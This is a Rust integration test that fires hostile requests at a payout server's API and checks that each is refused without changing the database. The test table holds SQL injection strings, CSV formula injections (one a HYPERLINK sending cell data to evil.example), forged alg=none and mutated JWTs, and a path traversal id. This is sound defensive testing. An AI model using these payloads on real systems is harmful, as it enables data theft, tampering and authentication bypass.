//! Hostile input (RELIABILITY.md invariant 9, "Bad input changes nothing"): one table of malformed, forged,
//! injected and oversized requests sent over real HTTP to every endpoint of the demo server on a SQLite file.
//! Each must be refused with a 4xx and a JSON error `{"error":{"code","message"}}` (the dashboard answers
//! HTML or a redirect with an error flash), or be a harmless no-op (a replayed webhook, a filter that is
//! only a string and matches nothing); and after every single case a dump of every table, read through a
//! second connection to the same file, must be identical to the dump taken before the first case.

use std::collections::BTreeMap;
use std::net::SocketAddr;

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use payout_server::demo::{self, DemoConfig};
use payout_server::{AppState, Claims, JwtKey, Role, ServerConfig};
use serde_json::{Value, json};
use sqlx::Row;
use sqlx::sqlite::{SqlitePool, SqlitePoolOptions};

const SECRET: &str = "hostile-secret";
const SIM: &str = "hostile-simulation-token";
/// The server's body limit is 256 KiB; this is comfortably over it.
const HUGE: usize = 300 * 1024;

const SQL_INJECTIONS: &[&str] = &[
    "' OR '1'='1",
    "'; DROP TABLE payouts; --",
    "\" OR \"\"=\"",
    "1; UPDATE payouts SET status='PAID' --",
    "' UNION SELECT id, doctor_id FROM payouts --",
    "%' OR 1=1 --",
    "') OR ('a'='a",
];

const CSV_INJECTIONS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

// ------------------------------------------------------------------ requests and expectations

#[derive(Clone)]
struct Req {
    method: &'static str,
    path: String,
    headers: Vec<(&'static str, String)>,
    body: Vec<u8>,
}

fn req(method: &'static str, path: impl Into<String>) -> Req {
    Req {
        method,
        path: path.into(),
        headers: Vec::new(),
        body: Vec::new(),
    }
}

fn get(path: impl Into<String>) -> Req {
    req("GET", path)
}

impl Req {
    fn header(mut self, name: &'static str, value: impl Into<String>) -> Self {
        self.headers.push((name, value.into()));
        self
    }
    fn bearer(self, token: &str) -> Self {
        self.header("authorization", format!("Bearer {token}"))
    }
    fn cookie(self, token: &str) -> Self {
        self.header("cookie", format!("payouts_token={token}"))
    }
    fn body(mut self, body: impl Into<Vec<u8>>) -> Self {
        self.body = body.into();
        self
    }
    /// A body sent as `application/json` (any bytes: the point is often that they are not JSON).
    fn json_bytes(self, body: impl Into<Vec<u8>>) -> Self {
        self.header("content-type", "application/json").body(body)
    }
    fn json(self, body: Value) -> Self {
        self.json_bytes(body.to_string())
    }
    fn form(self, body: impl Into<Vec<u8>>) -> Self {
        self.header("content-type", "application/x-www-form-urlencoded")
            .body(body)
    }
    fn sim(self, token: &str) -> Self {
        self.header("x-simulation-token", token)
    }
    fn describe(&self) -> String {
        let body = String::from_utf8_lossy(&self.body);
        let body: String = if body.len() > 300 {
            format!(
                "{}… ({} bytes)",
                body.chars().take(300).collect::<String>(),
                self.body.len()
            )
        } else {
            body.into_owned()
        };
        let headers: Vec<String> = self
            .headers
            .iter()
            .map(|(k, v)| format!("{k}: {}", v.chars().take(80).collect::<String>()))
            .collect();
        format!(
            "{} {}\n    headers: {headers:?}\n    body: {body:?}",
            self.method, self.path
        )
    }
}

#[derive(Clone, Debug)]
enum Expect {
    /// This 4xx status with `{"error":{"code": <code>, "message": <non-empty>}}`.
    Error(u16, &'static str),
    /// 200: a JSON page with no rows (a filter value that is only a string matches nothing, nothing leaks).
    EmptyList,
    /// 200: a CSV export with the header line only.
    EmptyCsv,
    /// 200: a bulk action in which every id was refused (`summary.succeeded` = 0).
    BulkAllRefused,
    /// 200: a replayed webhook; every event reported as a duplicate.
    Duplicate,
    /// 200: an authentic webhook naming nothing of ours; every event acknowledged as `not_ours`.
    NotOurs,
    /// The dashboard: this status and an HTML page.
    Html(u16),
    /// The dashboard: a 303 back to the list with an `err=` flash.
    FlashError,
    /// The dashboard: this status (the framework's own answer, e.g. 413 before the handler runs).
    Status(u16),
}

struct Case {
    what: String,
    req: Req,
    expect: Expect,
}

fn case(what: impl Into<String>, req: Req, expect: Expect) -> Case {
    Case {
        what: what.into(),
        req,
        expect,
    }
}

struct Response {
    status: u16,
    content_type: String,
    location: String,
    /// `X-Bank-File-Id` and `X-Bank-File-Transfers`, for the set-up's bank file.
    bank_file_id: String,
    bank_file_transfers: String,
    body: Vec<u8>,
}

fn check(expect: &Expect, r: &Response) -> Result<(), String> {
    let json = || -> Result<Value, String> {
        if !r.content_type.starts_with("application/json") {
            return Err(format!("content-type {:?}, expected JSON", r.content_type));
        }
        serde_json::from_slice(&r.body).map_err(|e| format!("body is not JSON: {e}"))
    };
    let status = |want: u16| {
        if r.status == want {
            Ok(())
        } else {
            Err(format!("status {}, expected {want}", r.status))
        }
    };
    match expect {
        Expect::Error(want, code) => {
            status(*want)?;
            let v = json()?;
            let got = v["error"]["code"].as_str().unwrap_or_default();
            if got != *code {
                return Err(format!("error code {got:?}, expected {code:?}"));
            }
            if v["error"]["message"].as_str().is_none_or(|m| m.trim().is_empty()) {
                return Err("no error message".into());
            }
            Ok(())
        }
        Expect::EmptyList => {
            status(200)?;
            let v = json()?;
            if v["pagination"]["total"] != 0 || v["data"].as_array().is_none_or(|d| !d.is_empty()) {
                return Err("expected an empty page".into());
            }
            Ok(())
        }
        Expect::EmptyCsv => {
            status(200)?;
            if !r.content_type.starts_with("text/csv") {
                return Err(format!("content-type {:?}, expected CSV", r.content_type));
            }
            let text = String::from_utf8_lossy(&r.body);
            let lines: Vec<&str> = text.trim_end().split("\r\n").collect();
            if lines.len() != 1 || !lines[0].starts_with("id,doctorId") {
                return Err(format!("expected the header line only, got {} lines", lines.len()));
            }
            Ok(())
        }
        Expect::BulkAllRefused => {
            status(200)?;
            let v = json()?;
            let results = v["data"].as_array().cloned().unwrap_or_default();
            if results.is_empty() || v["summary"]["succeeded"] != 0 {
                return Err("expected every id refused".into());
            }
            for r in &results {
                if r["ok"] != false || r["error"]["code"].as_str().is_none_or(str::is_empty) {
                    return Err(format!("a result without a refusal: {r}"));
                }
            }
            Ok(())
        }
        Expect::Duplicate | Expect::NotOurs => {
            let want = if matches!(expect, Expect::Duplicate) {
                "duplicate"
            } else {
                "not_ours"
            };
            status(200)?;
            let v = json()?;
            let events = v["data"]["events"].as_array().cloned().unwrap_or_default();
            if events.is_empty() || events.iter().any(|e| e["result"] != want) {
                return Err(format!("expected only {want} events, got {}", v["data"]["events"]));
            }
            Ok(())
        }
        Expect::Html(want) => {
            status(*want)?;
            if !r.content_type.starts_with("text/html") {
                return Err(format!("content-type {:?}, expected HTML", r.content_type));
            }
            Ok(())
        }
        Expect::FlashError => {
            status(303)?;
            if !r.location.starts_with("/dashboard/admin/payouts") || !r.location.contains("err=") {
                return Err(format!("redirect to {:?}, expected an error flash", r.location));
            }
            Ok(())
        }
        Expect::Status(want) => status(*want),
    }
}

// ------------------------------------------------------------------ the database, dumped

/// Every table in `sqlite_master` (and `sqlite_master` itself), every row in rowid order, every value as
/// SQLite's own `quote()` literal: a change to any byte of any row shows.
async fn dump(pool: &SqlitePool) -> BTreeMap<String, Vec<String>> {
    let mut tables: Vec<String> =
        sqlx::query_scalar("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")
            .fetch_all(pool)
            .await
            .unwrap();
    tables.push("sqlite_master".into());
    let mut out = BTreeMap::new();
    for table in tables {
        let columns: Vec<String> = sqlx::query_scalar("SELECT name FROM pragma_table_info(?1) ORDER BY cid")
            .bind(&table)
            .fetch_all(pool)
            .await
            .unwrap();
        let columns = if columns.is_empty() {
            // sqlite_master has no table_info of its own.
            vec![
                "type".into(),
                "name".into(),
                "tbl_name".into(),
                "rootpage".into(),
                "sql".into(),
            ]
        } else {
            columns
        };
        let select = columns
            .iter()
            .map(|c| format!("quote(\"{}\")", c.replace('"', "\"\"")))
            .collect::<Vec<_>>()
            .join(" || ',' || ");
        let sql = format!("SELECT {select} FROM \"{}\" ORDER BY rowid", table.replace('"', "\"\""));
        let rows = sqlx::query(&sql).fetch_all(pool).await.unwrap();
        let rows: Vec<String> = rows.iter().map(|r| r.get::<String, _>(0)).collect();
        out.insert(table, rows);
    }
    out
}

fn diff(before: &BTreeMap<String, Vec<String>>, after: &BTreeMap<String, Vec<String>>) -> String {
    let mut out = String::new();
    let names: std::collections::BTreeSet<&String> = before.keys().chain(after.keys()).collect();
    for name in names {
        let (b, a) = (before.get(name), after.get(name));
        if b == a {
            continue;
        }
        let (b, a) = (b.cloned().unwrap_or_default(), a.cloned().unwrap_or_default());
        out.push_str(&format!(
            "    table {name}: {} rows before, {} after\n",
            b.len(),
            a.len()
        ));
        for row in b.iter().filter(|r| !a.contains(r)).take(3) {
            out.push_str(&format!("      - {row}\n"));
        }
        for row in a.iter().filter(|r| !b.contains(r)).take(3) {
            out.push_str(&format!("      + {row}\n"));
        }
    }
    out
}

// ------------------------------------------------------------------ the server

struct Server {
    base: String,
    http: reqwest::Client,
    _dir: tempfile::TempDir,
    db: SqlitePool,
}

impl Server {
    async fn send(&self, r: &Req) -> Response {
        let method = reqwest::Method::from_bytes(r.method.as_bytes()).unwrap();
        let mut b = self.http.request(method, format!("{}{}", self.base, r.path));
        for (k, v) in &r.headers {
            b = b.header(*k, v.as_str());
        }
        let res = b.body(r.body.clone()).send().await.unwrap();
        let header = |name: &str| {
            res.headers()
                .get(name)
                .and_then(|v| v.to_str().ok())
                .unwrap_or_default()
                .to_string()
        };
        let (content_type, location) = (header("content-type"), header("location"));
        let (bank_file_id, bank_file_transfers) = (header("x-bank-file-id"), header("x-bank-file-transfers"));
        let status = res.status().as_u16();
        let body = res.bytes().await.map(|b| b.to_vec()).unwrap_or_default();
        Response {
            status,
            content_type,
            location,
            bank_file_id,
            bank_file_transfers,
            body,
        }
    }

    /// A step of the set-up, which must succeed.
    async fn ok(&self, r: Req) -> Value {
        let res = self.send(&r).await;
        assert!(
            (200..300).contains(&res.status),
            "set-up step failed: {}\n  -> {} {}",
            r.describe(),
            res.status,
            String::from_utf8_lossy(&res.body)
        );
        serde_json::from_slice(&res.body).unwrap()
    }
}

async fn start() -> Server {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("hostile.db");
    // From the environment so fields added later get their defaults; what matters here is set explicitly.
    let mut config = DemoConfig::from_env().unwrap();
    config.addr = "127.0.0.1:0".parse().unwrap();
    config.database_url = format!("sqlite://{}?mode=rwc", path.display());
    config.jwt_secret = SECRET.into();
    config.simulation_token = SIM.into();
    config.sample_data = true;
    config.reconcile_every = 0;
    config.four_eyes = true;
    let running = demo::build(&config).await.unwrap();
    // The demo's service and database, without rate limits: a burst of hostile requests from one client
    // would otherwise be answered 429 and hide the answers under test.
    let server_config = ServerConfig {
        webhook_rate: None,
        mutation_rate: None,
        ..ServerConfig::new(SECRET)
    };
    let state = AppState::new(running.service.clone(), server_config).with_events(running.outbox.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let app = demo::app(state).into_make_service_with_connect_info::<SocketAddr>();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    let db = SqlitePoolOptions::new()
        .max_connections(1)
        .connect(&format!("sqlite://{}?mode=ro", path.display()))
        .await
        .unwrap();
    Server {
        base: format!("http://{addr}"),
        http: reqwest::Client::builder()
            .redirect(reqwest::redirect::Policy::none())
            .build()
            .unwrap(),
        _dir: dir,
        db,
    }
}

// ------------------------------------------------------------------ tokens

fn token(role: Role, sub: &str, doctor: Option<&str>, exp_in: i64, secret: &str) -> String {
    JwtKey::new(secret).sign(&Claims {
        sub: sub.into(),
        role,
        doctor_id: doctor.map(String::from),
        exp: chrono::Utc::now().timestamp() + exp_in,
    })
}

fn admin(sub: &str) -> String {
    token(Role::Admin, sub, None, 3600, SECRET)
}

fn doctor(id: &str) -> String {
    token(Role::Doctor, &format!("user-{id}"), Some(id), 3600, SECRET)
}

/// Tokens that must never authenticate: (description, token, expected status, expected code).
fn bad_tokens() -> Vec<(&'static str, Option<String>, u16, &'static str)> {
    let claims = URL_SAFE_NO_PAD
        .encode(json!({"sub": "admin-1", "role": "admin", "exp": chrono::Utc::now().timestamp() + 3600}).to_string());
    let alg_none = format!("{}.{claims}.", URL_SAFE_NO_PAD.encode(br#"{"alg":"none","typ":"JWT"}"#));
    let valid = admin("admin-1");
    let mut parts: Vec<&str> = valid.split('.').collect();
    let forged_claims = URL_SAFE_NO_PAD.encode(
        json!({"sub": "admin-1", "role": "admin", "exp": chrono::Utc::now().timestamp() + 999_999}).to_string(),
    );
    parts[1] = &forged_claims;
    let mutated = parts.join(".");
    vec![
        ("no token", None, 401, "unauthorized"),
        ("a garbage token", Some("not.a.jwt".into()), 401, "unauthorized"),
        (
            "a token signed with another secret",
            Some(token(Role::Admin, "admin-1", None, 3600, "wrong-secret")),
            401,
            "unauthorized",
        ),
        (
            "an expired token",
            Some(token(Role::Admin, "admin-1", None, -120, SECRET)),
            401,
            "unauthorized",
        ),
        ("an alg=none token", Some(alg_none), 401, "unauthorized"),
        ("a token with mutated claims", Some(mutated), 401, "unauthorized"),
        ("a doctor's token", Some(doctor("dr-wanjiru")), 403, "forbidden"),
    ]
}

// ------------------------------------------------------------------ helpers for the table

/// Percent-encodes everything but unreserved characters, for paths and query values.
fn enc(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

fn nested(depth: usize) -> String {
    format!("{}{}", "[".repeat(depth), "]".repeat(depth))
}

fn huge_json() -> Vec<u8> {
    json!({"doctorId": "dr-amina", "amount": "1.00", "notes": "x".repeat(HUGE)})
        .to_string()
        .into_bytes()
}

/// The state the cases run against.
struct World {
    admin: String,
    creator: String,
    /// PENDING, calculated.
    pending: String,
    /// PENDING too.
    pending2: String,
    /// APPROVED.
    approved: String,
    /// PROCESSING with the simulated Stripe, and its reference.
    processing: String,
    processing_ref: String,
    /// PAID by the simulated M-Pesa, its reference and the event that paid it.
    paid: String,
    paid_ref: String,
    paid_event: Value,
    /// PENDING, manual, created by `creator`.
    manual: String,
    /// The calculation run the sample data's calculation made; `creator` requested a funds override on it.
    run: String,
    /// A bank file (CSV) of one payout, `banked`: a manual payout of the doctor with bank details, PROCESSING by
    /// the file and no member of `run`.
    bank_file: String,
    banked: String,
    /// PENDING, on hold, held by `creator`.
    held: String,
    /// A doctor on hold, held by `creator`.
    held_doctor: String,
}

fn cases(w: &World) -> Vec<Case> {
    use Expect::*;
    let a = w.admin.as_str();
    let bad = || Error(400, "invalid_input");
    let mut t: Vec<Case> = Vec::new();

    // ---- auth on every endpoint: valid requests that only the credentials make invalid
    let pend = &w.pending;
    let endpoints: Vec<(&str, Req)> = vec![
        ("list", get("/api/admin/payouts")),
        ("export", get("/api/admin/payouts/export")),
        ("detail", get(format!("/api/admin/payouts/{pend}"))),
        ("items", get(format!("/api/admin/payouts/{pend}/items"))),
        ("audit", get(format!("/api/admin/payouts/{pend}/audit"))),
        (
            "create",
            req("POST", "/api/admin/payouts").json(json!({"doctorId": "dr-amina", "amount": "100.00"})),
        ),
        (
            "approve",
            req("PATCH", format!("/api/admin/payouts/{pend}")).json(json!({"action": "approve"})),
        ),
        (
            "cancel",
            req("PATCH", format!("/api/admin/payouts/{pend}")).json(json!({"action": "cancel"})),
        ),
        (
            "trigger",
            req("PATCH", format!("/api/admin/payouts/{}", w.approved))
                .json(json!({"action": "trigger", "provider": "STRIPE_CONNECT"})),
        ),
        (
            "bulk approve",
            req("POST", "/api/admin/payouts/bulk").json(json!({"payoutIds": [pend, w.pending2], "action": "approve"})),
        ),
    ];
    for (name, r) in &endpoints {
        for (what, tok, status, code) in bad_tokens() {
            let r = match &tok {
                Some(tok) => r.clone().bearer(tok),
                None => r.clone(),
            };
            t.push(case(format!("admin {name} with {what}"), r, Error(status, code)));
        }
        // A bad token in the cookie is refused the same way.
        t.push(case(
            format!("admin {name} with a forged cookie token"),
            r.clone()
                .cookie(&token(Role::Admin, "admin-1", None, 3600, "wrong-secret")),
            Error(401, "unauthorized"),
        ));
    }
    for (what, tok, _, _) in bad_tokens() {
        let r = get("/api/doctor/payouts?limit=10");
        let (r, expect) = match tok {
            Some(_) if what == "a doctor's token" => continue,
            Some(tok) => (r.bearer(&tok), Error(401, "unauthorized")),
            None => (r, Error(401, "unauthorized")),
        };
        t.push(case(format!("doctor history with {what}"), r, expect));
    }
    t.push(case(
        "doctor history with an admin's token",
        get("/api/doctor/payouts").bearer(a),
        Error(403, "forbidden"),
    ));

    // ---- POST /api/admin/payouts: malformed JSON, wrong types, amounts, dates, injection
    let create = |body: Vec<u8>| req("POST", "/api/admin/payouts").bearer(a).json_bytes(body);
    let create_v = |v: Value| create(v.to_string().into_bytes());
    for (what, body) in [
        ("an empty body", ""),
        ("truncated JSON", r#"{"doctorId": "dr-amina", "amount": "#),
        ("trailing garbage", r#"{"doctorId": "dr-amina", "amount": "1.00"} x"#),
        ("two JSON documents", r#"{"doctorId": "dr-amina", "amount": "1.00"}{}"#),
        ("a JSON array", r#"[{"doctorId": "dr-amina", "amount": "1.00"}]"#),
        ("JSON null", "null"),
        ("a JSON string", r#""dr-amina""#),
        ("single quotes", "{'doctorId': 'dr-amina', 'amount': '1.00'}"),
        ("a comment", r#"{/* hi */ "doctorId": "dr-amina", "amount": "1.00"}"#),
        (
            "a duplicate key",
            r#"{"doctorId": "dr-amina", "doctorId": "dr-otieno", "amount": "1.00"}"#,
        ),
        ("a lone surrogate escape", r#"{"doctorId": "\ud800", "amount": "1.00"}"#),
        (
            "an unescaped control character",
            "{\"doctorId\": \"dr-\u{1}amina\", \"amount\": \"1.00\"}",
        ),
    ] {
        t.push(case(format!("create with {what}"), create(body.into()), bad()));
    }
    t.push(case(
        "create with invalid UTF-8",
        create(b"{\"doctorId\": \"dr-\xff\xfe\", \"amount\": \"1.00\"}".to_vec()),
        bad(),
    ));
    t.push(case(
        "create with 10,000-deep nesting",
        create(nested(10_000).into_bytes()),
        bad(),
    ));
    t.push(case(
        "create without a Content-Type",
        req("POST", "/api/admin/payouts")
            .bearer(a)
            .body(json!({"doctorId": "dr-amina", "amount": "1.00"}).to_string()),
        bad(),
    ));
    t.push(case(
        "create as text/plain",
        req("POST", "/api/admin/payouts")
            .bearer(a)
            .header("content-type", "text/plain")
            .body(json!({"doctorId": "dr-amina", "amount": "1.00"}).to_string()),
        bad(),
    ));
    t.push(case(
        "create as a form",
        req("POST", "/api/admin/payouts")
            .bearer(a)
            .form("doctorId=dr-amina&amount=1.00"),
        bad(),
    ));
    t.push(case(
        "create with a body over 256 KiB",
        create(huge_json()),
        Error(413, "payload_too_large"),
    ));
    for (what, v) in [
        ("doctorId a number", json!({"doctorId": 7, "amount": "1.00"})),
        ("doctorId null", json!({"doctorId": null, "amount": "1.00"})),
        ("doctorId an object", json!({"doctorId": {"$ne": ""}, "amount": "1.00"})),
        ("no doctorId", json!({"amount": "1.00"})),
        ("no amount", json!({"doctorId": "dr-amina"})),
        ("amount true", json!({"doctorId": "dr-amina", "amount": true})),
        ("amount null", json!({"doctorId": "dr-amina", "amount": null})),
        (
            "amount an object",
            json!({"doctorId": "dr-amina", "amount": {"value": 1}}),
        ),
        ("amount an array", json!({"doctorId": "dr-amina", "amount": ["1.00"]})),
        (
            "currency a number",
            json!({"doctorId": "dr-amina", "amount": "1.00", "currency": 404}),
        ),
        (
            "notes a number",
            json!({"doctorId": "dr-amina", "amount": "1.00", "notes": 5}),
        ),
        (
            "periodStart a number",
            json!({"doctorId": "dr-amina", "amount": "1.00", "periodStart": 20250101, "periodEnd": "2025-01-31"}),
        ),
        (
            "an unknown field (status)",
            json!({"doctorId": "dr-amina", "amount": "1.00", "status": "PAID"}),
        ),
        (
            "an unknown field (createdBy)",
            json!({"doctorId": "dr-amina", "amount": "1.00", "createdBy": "someone-else"}),
        ),
        (
            "an unknown field (id)",
            json!({"doctorId": "dr-amina", "amount": "1.00", "id": "po-chosen"}),
        ),
        ("a snake_case field", json!({"doctor_id": "dr-amina", "amount": "1.00"})),
    ] {
        t.push(case(format!("create with {what}"), create_v(v), bad()));
    }
    for amount in [
        json!("-1.00"),
        json!("-0.01"),
        json!("0"),
        json!("0.00"),
        json!("-0"),
        json!(0),
        json!(-5),
        json!("10.001"),
        json!(0.123),
        json!(0.300_000_000_000_000_04),
        json!(1e300),
        json!("1e3"),
        json!("1E3"),
        json!("1,000"),
        json!("1 000"),
        json!("0x10"),
        json!("+5"),
        json!(""),
        json!(" "),
        json!("."),
        json!("1.2.3"),
        json!("--1"),
        json!("NaN"),
        json!("Infinity"),
        json!("\u{661}\u{662}\u{663}"),
        json!("１２３"),
        json!("99999999999999999999999999999999"),
        json!("79228162514264337593543950335"),
        json!("92233720368547758.08"),
        json!("1".repeat(41)),
    ] {
        t.push(case(
            format!("create with amount {amount}"),
            create_v(json!({"doctorId": "dr-amina", "amount": amount})),
            bad(),
        ));
    }
    for (amount, currency) in [
        ("10.5", "JPY"),
        ("1.2345", "KWD"),
        ("1.00", "XXX"),
        ("1.00", ""),
        ("1.00", "K E S"),
    ] {
        t.push(case(
            format!("create with amount {amount} {currency:?}"),
            create_v(json!({"doctorId": "dr-amina", "amount": amount, "currency": currency})),
            bad(),
        ));
    }
    t.push(case(
        "create with a numeric amount too long to read exactly",
        create("{\"doctorId\": \"dr-amina\", \"amount\": 0.1234567890123456789}".into()),
        bad(),
    ));
    t.push(case(
        "create with a numeric amount out of range",
        create("{\"doctorId\": \"dr-amina\", \"amount\": 1e999}".into()),
        bad(),
    ));
    for (what, start, end) in [
        ("February 30th", json!("2025-02-30"), json!("2025-03-01")),
        ("month 13", json!("2025-13-01"), json!("2025-13-31")),
        ("a day-first date", json!("31/01/2025"), json!("28/02/2025")),
        (
            "a timestamp",
            json!("2025-01-01T00:00:00Z"),
            json!("2025-01-31T00:00:00Z"),
        ),
        ("year zero-zero", json!("0000-00-00"), json!("0000-00-00")),
        ("an empty date", json!(""), json!("")),
        ("an end before the start", json!("2025-01-31"), json!("2025-01-01")),
        ("a start only", json!("2025-01-01"), Value::Null),
        ("an end only", Value::Null, json!("2025-01-31")),
    ] {
        t.push(case(
            format!("create with a period of {what}"),
            create_v(json!({"doctorId": "dr-amina", "amount": "1.00", "periodStart": start, "periodEnd": end})),
            bad(),
        ));
    }
    for d in SQL_INJECTIONS.iter().chain(CSV_INJECTIONS) {
        t.push(case(
            format!("create for doctorId {d:?}"),
            create_v(json!({"doctorId": d, "amount": "1.00"})),
            bad(),
        ));
    }
    for (what, d) in [
        ("an unknown doctor", "dr-nobody"),
        ("an empty doctorId", ""),
        ("a blank doctorId", "   "),
        ("a NUL in the doctorId", "dr-amina\u{0}"),
        ("a doctorId with a trailing space", "dr-amina "),
        ("a 10,000-character doctorId", &"d".repeat(10_000)),
    ] {
        t.push(case(
            format!("create for {what}"),
            create_v(json!({"doctorId": d, "amount": "1.00"})),
            bad(),
        ));
    }
    for n in CSV_INJECTIONS {
        t.push(case(
            format!("create with notes {n:?} and a negative amount"),
            create_v(json!({"doctorId": "dr-amina", "amount": "-1.00", "notes": n})),
            bad(),
        ));
    }
    t.push(case(
        "create with CSV-injection notes over 2,000 characters",
        create_v(json!({"doctorId": "dr-amina", "amount": "1.00", "notes": format!("={}", "A".repeat(2000))})),
        bad(),
    ));

    // ---- PATCH /api/admin/payouts/{id}: actions, providers, states, ids
    let patch = |id: &str, v: Value| req("PATCH", format!("/api/admin/payouts/{id}")).bearer(a).json(v);
    for (what, v) in [
        ("an unknown action", json!({"action": "pay"})),
        ("an upper-case action", json!({"action": "APPROVE"})),
        ("action a number", json!({"action": 1})),
        ("action null", json!({"action": null})),
        ("no action", json!({})),
        ("action delete", json!({"action": "delete"})),
        (
            "an unknown field (status)",
            json!({"action": "approve", "status": "PAID"}),
        ),
        (
            "an unknown field (amountDue)",
            json!({"action": "approve", "amountDue": "1000000.00"}),
        ),
        ("provider a number", json!({"action": "approve", "provider": 3})),
    ] {
        t.push(case(format!("patch PENDING with {what}"), patch(pend, v), bad()));
    }
    for p in ["VENMO", "", "stripe", "STRIPE_CONNECT; DROP TABLE payouts"] {
        t.push(case(
            format!("trigger APPROVED with provider {p:?}"),
            patch(&w.approved, json!({"action": "trigger", "provider": p})),
            bad(),
        ));
    }
    t.push(case(
        "trigger APPROVED without a provider",
        patch(&w.approved, json!({"action": "trigger"})),
        bad(),
    ));
    t.push(case(
        "retry with an unknown provider",
        patch(&w.paid, json!({"action": "retry", "provider": "VENMO"})),
        bad(),
    ));
    let conflict = || Error(409, "invalid_transition");
    for (what, id, v) in [
        ("approve a PAID payout", &w.paid, json!({"action": "approve"})),
        ("cancel a PAID payout", &w.paid, json!({"action": "cancel"})),
        (
            "trigger a PAID payout",
            &w.paid,
            json!({"action": "trigger", "provider": "MPESA_B2C"}),
        ),
        ("retry a PAID payout", &w.paid, json!({"action": "retry"})),
        (
            "trigger a PENDING payout",
            pend,
            json!({"action": "trigger", "provider": "MPESA_B2C"}),
        ),
        ("retry a PENDING payout", pend, json!({"action": "retry"})),
        ("approve an APPROVED payout", &w.approved, json!({"action": "approve"})),
        (
            "approve a PROCESSING payout",
            &w.processing,
            json!({"action": "approve"}),
        ),
        ("cancel a PROCESSING payout", &w.processing, json!({"action": "cancel"})),
        (
            "trigger a PROCESSING payout again",
            &w.processing,
            json!({"action": "trigger", "provider": "STRIPE_CONNECT"}),
        ),
    ] {
        t.push(case(what, patch(id, v), conflict()));
    }
    t.push(case(
        "the creator approves their own manual payout (four eyes)",
        req("PATCH", format!("/api/admin/payouts/{}", w.manual))
            .bearer(&w.creator)
            .json(json!({"action": "approve"})),
        Error(403, "forbidden"),
    ));
    let patch_pending = || req("PATCH", format!("/api/admin/payouts/{pend}")).bearer(a);
    let huge_reason = format!("{{\"action\":\"cancel\",\"reason\":\"{}\"}}", "x".repeat(HUGE));
    let too_large = Error(413, "payload_too_large");
    t.push(case(
        "patch with a body over 256 KiB",
        patch_pending().json_bytes(huge_reason),
        too_large,
    ));
    t.push(case(
        "patch with malformed JSON",
        patch_pending().json_bytes(r#"{"action": "approve""#),
        bad(),
    ));
    t.push(case(
        "patch without a Content-Type",
        patch_pending().body(r#"{"action": "approve"}"#),
        bad(),
    ));

    // ---- ids: SQL injection and odd ids in every path
    let mut odd_ids: Vec<(String, u16, &'static str)> = SQL_INJECTIONS
        .iter()
        .map(|s| (s.to_string(), 404, "not_found"))
        .collect();
    odd_ids.extend([
        ("po-does-not-exist".to_string(), 404, "not_found"),
        (format!("{pend}\u{0}"), 404, "not_found"),
        (format!("{pend} "), 404, "not_found"),
        (pend.to_uppercase(), 404, "not_found"),
        ("../../etc/passwd".to_string(), 404, "not_found"),
        ("x".repeat(129), 400, "invalid_input"),
    ]);
    for (id, status, code) in &odd_ids {
        let e = enc(id);
        let shown: String = id.chars().take(40).collect();
        t.push(case(
            format!("detail of id {shown:?}"),
            get(format!("/api/admin/payouts/{e}")).bearer(a),
            Error(*status, code),
        ));
        t.push(case(
            format!("items of id {shown:?}"),
            get(format!("/api/admin/payouts/{e}/items")).bearer(a),
            Error(*status, code),
        ));
        t.push(case(
            format!("audit of id {shown:?}"),
            get(format!("/api/admin/payouts/{e}/audit")).bearer(a),
            Error(*status, code),
        ));
        for action in ["approve", "cancel"] {
            t.push(case(
                format!("{action} id {shown:?}"),
                req("PATCH", format!("/api/admin/payouts/{e}"))
                    .bearer(a)
                    .json(json!({"action": action})),
                Error(*status, code),
            ));
        }
    }
    t.push(case(
        "detail of an id that is not UTF-8",
        get("/api/admin/payouts/%FF%FE").bearer(a),
        bad(),
    ));
    t.push(case(
        "approve an id that is not UTF-8",
        req("PATCH", "/api/admin/payouts/%FF%FE")
            .bearer(a)
            .json(json!({"action": "approve"})),
        bad(),
    ));

    // ---- bulk
    let bulk = |v: Value| req("POST", "/api/admin/payouts/bulk").bearer(a).json(v);
    for (what, v) in [
        ("no ids", json!({"payoutIds": [], "action": "approve"})),
        ("payoutIds a string", json!({"payoutIds": pend, "action": "approve"})),
        ("payoutIds numbers", json!({"payoutIds": [1, 2], "action": "approve"})),
        ("payoutIds null", json!({"payoutIds": null, "action": "approve"})),
        ("no payoutIds", json!({"action": "approve"})),
        ("an unknown action", json!({"payoutIds": [pend], "action": "delete"})),
        (
            "action retry (not a bulk action)",
            json!({"payoutIds": [pend], "action": "retry"}),
        ),
        (
            "trigger without a provider",
            json!({"payoutIds": [w.approved], "action": "trigger"}),
        ),
        (
            "trigger with provider VENMO",
            json!({"payoutIds": [w.approved], "action": "trigger", "provider": "VENMO"}),
        ),
        (
            "an unknown field",
            json!({"payoutIds": [pend], "action": "approve", "force": true}),
        ),
        (
            "1,001 ids",
            json!({"payoutIds": vec![pend.clone(); 1001], "action": "approve"}),
        ),
        (
            "a 129-character id among valid ones",
            json!({"payoutIds": [pend, "x".repeat(129)], "action": "approve"}),
        ),
        (
            "an empty id among valid ones",
            json!({"payoutIds": [pend, ""], "action": "approve"}),
        ),
    ] {
        t.push(case(format!("bulk with {what}"), bulk(v), bad()));
    }
    t.push(case(
        "bulk with malformed JSON",
        req("POST", "/api/admin/payouts/bulk")
            .bearer(a)
            .json_bytes(r#"{"payoutIds": ["#),
        bad(),
    ));
    t.push(case(
        "bulk with a body over 256 KiB",
        req("POST", "/api/admin/payouts/bulk")
            .bearer(a)
            .json(json!({"payoutIds": vec!["x".repeat(100); 3000], "action": "approve"})),
        Error(413, "payload_too_large"),
    ));
    t.push(case(
        "bulk approve of SQL-injection ids",
        bulk(json!({"payoutIds": SQL_INJECTIONS, "action": "approve"})),
        BulkAllRefused,
